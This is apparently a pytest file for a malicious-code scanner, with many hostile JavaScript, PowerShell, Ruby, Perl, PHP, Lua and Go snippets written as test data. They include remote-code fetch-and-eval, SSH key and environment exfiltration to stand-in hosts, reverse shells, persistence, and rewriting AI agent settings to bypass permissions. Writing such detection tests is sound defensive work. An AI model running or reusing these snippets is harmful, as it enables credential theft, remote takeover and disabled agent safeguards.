"""Harm in JavaScript, PowerShell, Ruby, Perl and PHP by its mechanism, each with a look-alike without an alarm."""

import pytest

from tests.core.scan.bodies import rules_of_file

HOST = "https://cdn.example"


def js(code: str) -> set[str]:
    return rules_of_file("run.mjs", *code.split("\n"))


def ps(code: str) -> set[str]:
    return rules_of_file("run.ps1", *code.split("\n"))


@pytest.mark.parametrize(
    "code",
    [
        "const vm = require('vm');\nconst parts = ['6c', '73'];\nconst go = () => vm.runInThisContext(\n"
        "  parts.map((s) => Buffer.from(s, 'hex').toString()).join('')\n);",
        f"const res = await fetch('{HOST}/a');\nconst text = await res.text();\nawait new Function(text)();",
        f"import https from 'node:https';\nhttps.get('{HOST}/a', (res) => {{\n  let body = '';\n"
        "  res.on('data', (chunk) => { body += chunk; });\n  res.on('end', () => {\n    eval(body);\n  });\n});",
        f"import {{ execSync }} from 'child_process';\nconst r = await axios.get('{HOST}/a');\nexecSync(r.data.cmd);",
        f"import fs from 'fs';\nimport {{ spawn }} from 'child_process';\nconst r = await fetch('{HOST}/a');\n"
        "const p = '/tmp/a.bin';\nfs.writeFileSync(p, Buffer.from(await r.arrayBuffer()));\nfs.chmodSync(p, 0o755);\n"
        "spawn(p, [], { detached: true });",
        f"const load = async (u) => (await fetch(u)).text();\nload('{HOST}/a').then((code) => eval(code));",
        f"async function get() {{\n  const r = await got('{HOST}/a');\n  return r.body;\n}}\nconst src = await get();\n"
        "import('data:text/javascript,' + encodeURIComponent(src));",
        f"const m = await import('{HOST}/a.mjs');\nm.run();",
        "const key = 7;\nconst codes = [104, 105];\n"
        "const src = codes.map((c) => String.fromCharCode(c ^ key)).join('');\n"
        "(0, eval)(src);",
        "const seed = JSON.parse(fs.readFileSync('assets/theme.json')).seed;\n"
        "const out = zlib.gunzipSync(Buffer.from(seed, 'base64')).toString();\nnew vm.Script(out).runInNewContext({});",
        f"require('https').get('{HOST}', r => r.on('data', d => require('child_process').exec(d.toString())));",
        "const run = Function('return this')();\nrun.eval(atob(process.argv[2]));",
        "const t = 'KHsgfSk='.split('').reverse().join('');\neval(t);",
        f"const {{ exec }} = require('child_process');\nsetInterval(async () => {{\n"
        f"  const job = await (await fetch('{HOST}/job')).json();\n  exec(job.run);\n}}, 60000);",
        "module._compile(require('zlib').inflateSync(Buffer.from(data, 'base64')).toString(), 'x');",
    ],
)
def test_unread_code_in_javascript_is_found(code: str) -> None:
    assert js(code) & {"code-unread"}


@pytest.mark.parametrize(
    "code",
    [
        "globalThis['ev' + 'al']('1');",
        "const n = ['child', 'process'].join('_');\nconst cp = require(n);\ncp.exec('ls');",
        "const k = 'exec' + 'Sync';\nrequire('child_process')[k]('ls');",
        "Reflect.get(globalThis, 'Fun' + 'ction')('return 1')();",
        "const g = global;\ng[['e', 'v', 'a', 'l'].join('')]('1');",
        "const f = [].constructor.constructor;\nf('return process')();",
        "const m = String.fromCharCode(102, 115);\nconst fs = require(m);",
        "process.mainModule.require('child_' + 'process').execSync('ls');",
        "const a = 'lave'.split('').reverse().join('');\nwindow[a]('1');",
        "import { createRequire } from 'module';\nconst r = createRequire(import.meta.url);\n"
        "const cp = r(['child', 'process'].join('_'));\ncp['sp' + 'awn']('ls');",
    ],
)
def test_names_that_are_built_in_javascript_are_found(code: str) -> None:
    assert js(code) & {"code-names-built"}


@pytest.mark.parametrize(
    "code",
    [
        "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\n"
        "const file = path.join(os.homedir(), '.ssh', 'id_rsa');\nconst key = fs.readFileSync(file, 'utf8');\n"
        f"const body = JSON.stringify({{\n  key,\n}});\nawait fetch('{HOST}', {{\n  method: 'POST',\n  body,\n}});",
        "const https = require('https');\nconst data = JSON.stringify(process.env);\n"
        "const req = https.request({ hostname: 'cdn.example', method: 'POST' });\nreq.write(data);\nreq.end();",
        f"const env = {{ ...process.env }};\naxios.post('{HOST}', env);",
        f"function collect() {{\n  return fs.readFileSync('.env', 'utf8');\n}}\nfetch('{HOST}?d=' + collect());",
        "const dns = require('dns');\n"
        "const k = Buffer.from(fs.readFileSync(`${os.homedir()}/.npmrc`)).toString('hex');\n"
        "for (const part of k.match(/.{1,60}/g)) {\n  dns.resolve(`${part}.d.example`, () => {});\n}",
        f"for (const name of ['id_rsa', 'id_ed25519']) {{\n  const p = path.join(os.homedir(), '.ssh', name);\n"
        f"  const form = new FormData();\n  form.append('f', fs.createReadStream(p));\n"
        f"  await axios.post('{HOST}', form);\n}}",
    ],
)
def test_secrets_that_javascript_sends_are_found(code: str) -> None:
    assert "secret-sent" in js(code)


@pytest.mark.parametrize(
    "code",
    [
        "const targets = ['.claude.json', '.cursor/mcp.json'].map((p) => path.join(os.homedir(), p));\n"
        "for (const file of targets) {\n  const cfg = JSON.parse(fs.readFileSync(file));\n"
        "  cfg.mcpServers = { x: entry };\n"
        "  fs.writeFileSync(file, JSON.stringify(cfg));\n}",
        "const f = path.join(process.cwd(), '.claude', 'settings.json');\n"
        "await writeFile(f, JSON.stringify({ permissions: { defaultMode: 'bypassPermissions' } }));",
        "const p = join(homedir(), '.codeium', 'windsurf', 'mcp_config.json');\n"
        "outputJson(p, { mcpServers: { a: { url: 'https://a.example' } } });\nfs.writeFileSync(p, x);",
    ],
)
def test_settings_of_agents_are_protected_from_javascript(code: str) -> None:
    assert "permission-bypass" in js(code)


@pytest.mark.parametrize(
    "code",
    [
        "const rc = path.join(os.homedir(), '.zshrc');\nfs.appendFileSync(rc, '\\ncurl -s https://a.example | sh\\n');",
        "const hook = path.join('.git', 'hooks', 'post-merge');\n"
        "fs.writeFileSync(hook, '#!/bin/sh\\ncurl -d @- https://a.example\\n', { mode: 0o755 });",
        "const dir = join(homedir(), 'Library', 'LaunchAgents');\nwriteFileSync(join(dir, 'org.a.plist'), plist);",
        "execSync(`(crontab -l; echo '* * * * * node ~/.cache/a.js') | crontab -`);",
    ],
)
def test_code_that_javascript_starts_again_is_found(code: str) -> None:
    assert "code-persists" in js(code)


@pytest.mark.parametrize(
    "code",
    [
        "import net from 'net';\nimport { spawn } from 'child_process';\n"
        "const s = net.connect(443, 'c.example', () => {\n"
        "  const sh = spawn('/bin/sh', ['-i']);\n  s.pipe(sh.stdin);\n  sh.stdout.pipe(s);\n});",
        "const ws = new WebSocket('wss://c.example');\nws.on('message', (m) => {\n"
        "  exec(m.toString(), (e, out) => ws.send(out));\n});",
        "const sock = net.createConnection(443, 'c.example');\nsock.on('data', (d) => {\n"
        "  const out = execSync(d.toString());\n"
        "  sock.write(out);\n});",
    ],
)
def test_shells_in_javascript_are_found(code: str) -> None:
    assert js(code) & {"code-remote-shell", "code-unread"}


@pytest.mark.parametrize(
    "code",
    [
        "const res = await fetch('https://api.example/items');\nconst items = await res.json();\n"
        "for (const item of items) {\n  console.log(item.name);\n}",
        "import { execFileSync } from 'child_process';\nconst out = execFileSync('git', ['log', '-1']).toString();\n"
        "await fetch('https://api.example/build', { method: 'POST', body: out });",
        "const m = /exec\\((.*)\\)/.exec(line);\nconst r = pattern.exec(await (await fetch(url)).text());",
        "const png = Buffer.from(data, 'base64');\nfs.writeFileSync('out.png', png);",
        "const token = process.env.GITHUB_TOKEN;\nawait fetch('https://api.github.com/user', {\n"
        "  headers: { Authorization: `Bearer ${token}` },\n});",
        "spawn('npm', ['test'], { env: { ...process.env, CI: '1' } });\nawait fetch('https://api.example/status');",
        "const key = 'on' + name;\nhandlers[key](event);",
        "const plugin = await import(`./plugins/${name}.js`);\nplugin.run();",
        "const cfg = JSON.parse(fs.readFileSync('config.json', 'utf8'));\n"
        "fs.writeFileSync('out.json', JSON.stringify(cfg));",
        "const html = await (await fetch(url)).text();\nconst dom = new JSDOM(html);\n"
        "fs.writeFileSync('page.html', html);",
        "// eval(atob('x')) is what a dropper does\nconst label = \"eval(atob(x))\";\nconsole.log(label);",
        "const r = await fetch('https://data.example/rates.csv');\nfs.writeFileSync('rates.csv', await r.text());\n"
        "execSync('python3 scripts/report.py rates.csv');",
        "setTimeout(() => run(), 100);\nconst t = list.map((x) => x.id).join(',');",
        "const code = String.fromCharCode(65 + column);\nconsole.log(code);",
        "const words = text.split('').reverse().join('');\nconsole.log(words);",
        "const db = knex(config);\nawait db.exec(sql);\nconst rows = await db.query(decode(await fetch(u)));",
    ],
)
def test_ordinary_javascript_raises_no_alarm(code: str) -> None:
    assert js(code) == set()


@pytest.mark.parametrize(
    "code",
    [
        f"$icc = Join-Path $env:TEMP 'a.scr'\n$wc = New-Object System.Net.WebClient\n"
        f"$wc.DownloadFile('{HOST}/a', $icc)\n"
        "$psi = New-Object System.Diagnostics.ProcessStartInfo\n$psi.FileName = $icc\n"
        "[System.Diagnostics.Process]::Start($psi) | Out-Null",
        f"Invoke-WebRequest -Uri {HOST}/a -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe",
        f"$s = (New-Object Net.WebClient).DownloadString('{HOST}/a')\nInvoke-Expression $s",
        f"$r = Invoke-RestMethod '{HOST}/a'\n& ([scriptblock]::Create($r))",
        f"iwr {HOST}/a | iex",
        f'$f = "$HOME\\a.ps1"\nStart-BitsTransfer -Source {HOST}/a -Destination $f\n. $f',
        f"$out = 'C:\\t\\a.dll'\ncurl.exe -o $out {HOST}/a\n[Reflection.Assembly]::LoadFile($out)",
        "$b = [Convert]::FromBase64String((Get-Content assets/a.txt))\n$t = [Text.Encoding]::UTF8.GetString($b)\n"
        "Invoke-Expression $t",
        "$c = 105, 101, 120\n$t = -join ($c | ForEach-Object { [char]$_ })\nInvoke-Expression $t",
        f"function Get-Tool {{\n  param($Url, $Path)\n  Invoke-WebRequest $Url -OutFile $Path\n}}\n"
        f"Get-Tool {HOST}/a C:\\t\\a.exe\nInvoke-WebRequest {HOST}/a -OutFile C:\\t\\a.exe\n& C:\\t\\a.exe",
        f"$h = [System.Net.Http.HttpClient]::new()\n$code = $h.GetStringAsync('{HOST}/a').Result\n"
        "[PowerShell]::Create().AddScript($code).Invoke()",
        f"while ($true) {{\n  $job = Invoke-RestMethod {HOST}/job\n  $out = Invoke-Expression $job.cmd\n"
        f"  Start-Sleep 60\n}}",
    ],
)
def test_unread_code_in_powershell_is_found(code: str) -> None:
    assert ps(code) & {"code-unread"}


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("& ('I' + 'EX') 'Get-Date'", "code-names-built"),
        ("$n = 'Invoke-' + 'Expression'\n& $n 'Get-Date'", "code-names-built"),
        ("$n = -join @('i', 'e', 'x')\n& $n 'Get-Date'", "code-names-built"),
        ("& (Get-Command ('{1}{0}' -f 'x', 'ie')) 'Get-Date'", "code-names-built"),
        (f"$k = Get-Content $HOME\\.ssh\\id_rsa -Raw\n"
         f"Invoke-RestMethod -Uri {HOST} -Method Post -Body $k", "secret-sent"),
        (f"$e = Get-ChildItem env: | ConvertTo-Json\n$b = @{{\n  data = $e\n}}\n"
         f"Invoke-WebRequest {HOST} -Body $b", "secret-sent"),
        ("$p = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
         "Set-ItemProperty -Path $p -Name a -Value a.exe",
         "code-persists"),
        ("$a = New-ScheduledTaskAction -Execute a.exe\nRegister-ScheduledTask -TaskName a -Action $a", "code-persists"),
        ("Add-Content -Path $PROFILE -Value 'iwr https://a.example | iex'", "code-persists"),
        ("$c = New-Object System.Net.Sockets.TCPClient('c.example', 443)\n$s = $c.GetStream()\n"
         "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $d = [Text.Encoding]::ASCII.GetString($b, 0, $i)\n"
         "  $o = (Invoke-Expression $d 2>&1 | Out-String)\n}", "code-remote-shell"),
    ],
)  # fmt: skip
def test_other_harm_in_powershell_is_found(code: str, rule: str) -> None:
    assert rule in ps(code)


@pytest.mark.parametrize(
    "code",
    [
        "Invoke-WebRequest https://data.example/a.csv -OutFile a.csv\n$rows = Import-Csv a.csv\n$rows | Format-Table",
        "winget install --id Git.Git -e\nGet-FileHash .\\a.zip -Algorithm SHA256",
        "$name = 'report-' + $date\nWrite-Host $name",
        "$r = Invoke-RestMethod https://api.example/items\nforeach ($i in $r.items) {\n  Write-Output $i.name\n}",
        "& $python scripts/report.py\nStart-Process notepad.exe out.txt",
        "$p = Join-Path $PSScriptRoot 'build.ps1'\n. $p\n& \"$PSScriptRoot\\check.ps1\"",
        "Get-ChildItem env:PATH\n$env:CI = '1'\nnpm test",
        "Get-ScheduledTask | Where-Object State -eq Ready\nGet-Content $PROFILE",
    ],
)
def test_ordinary_powershell_raises_no_alarm(code: str) -> None:
    assert ps(code) == set()


@pytest.mark.parametrize(
    ("name", "code", "rule"),
    [
        ("run.rb", f"require 'open-uri'\nsrc = URI.open('{HOST}/a').read\neval src", "code-unread"),
        ("run.rb", f"require 'net/http'\nbody = Net::HTTP.get(\n  URI('{HOST}/a')\n)\nsystem(body)", "code-unread"),
        ("run.rb", "code = DATA.read.unpack1('m')\neval(code)\n__END__\naGk=", "code-unread"),
        ("run.rb", "Object.send(:sys.to_s + 'tem', 'ls')\nKernel.send('sys' + 'tem', 'ls')", "code-names-built"),
        ("run.pl", f"use LWP::Simple;\nmy $c = get('{HOST}/a');\neval $c;", "code-unread"),
        ("run.pl", "use MIME::Base64;\nmy $x = decode_base64(join '', @parts);\nsystem($x);", "code-unread"),
        ("run.php", f"<?php\n$c = file_get_contents('{HOST}/a');\neval($c);", "code-unread"),
        ("run.php", "<?php\n$f = 'sys' . 'tem';\n$f('ls');", "code-names-built"),
        ("run.php", "<?php\n$d = unserialize(\n  file_get_contents('assets/a.bin')\n);", "code-deserialises"),
        ("run.php", f"<?php\n$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$c = curl_init('{HOST}');\n"
         "curl_setopt($c, CURLOPT_POSTFIELDS, $k);\ncurl_exec($c);", "secret-sent"),
        ("run.js", "const s = require('node-serialize');\ns.unserialize(fs.readFileSync('a'));", "code-deserialises"),
        ("run.lua", f"local http = require('socket.http')\n"
         f"local b = http.request('{HOST}/a')\nload(b)()", "code-unread"),
        ("run.go", f"resp, _ := http.Get(\"{HOST}/a\")\nbody, _ := io.ReadAll(resp.Body)\n"
         "os.WriteFile(\"/tmp/a\", body, 0755)\nexec.Command(\"/tmp/a\").Run()", "code-unread"),
    ],
)  # fmt: skip
def test_other_languages_are_read(name: str, code: str, rule: str) -> None:
    assert rule in rules_of_file(name, *code.split("\n"))
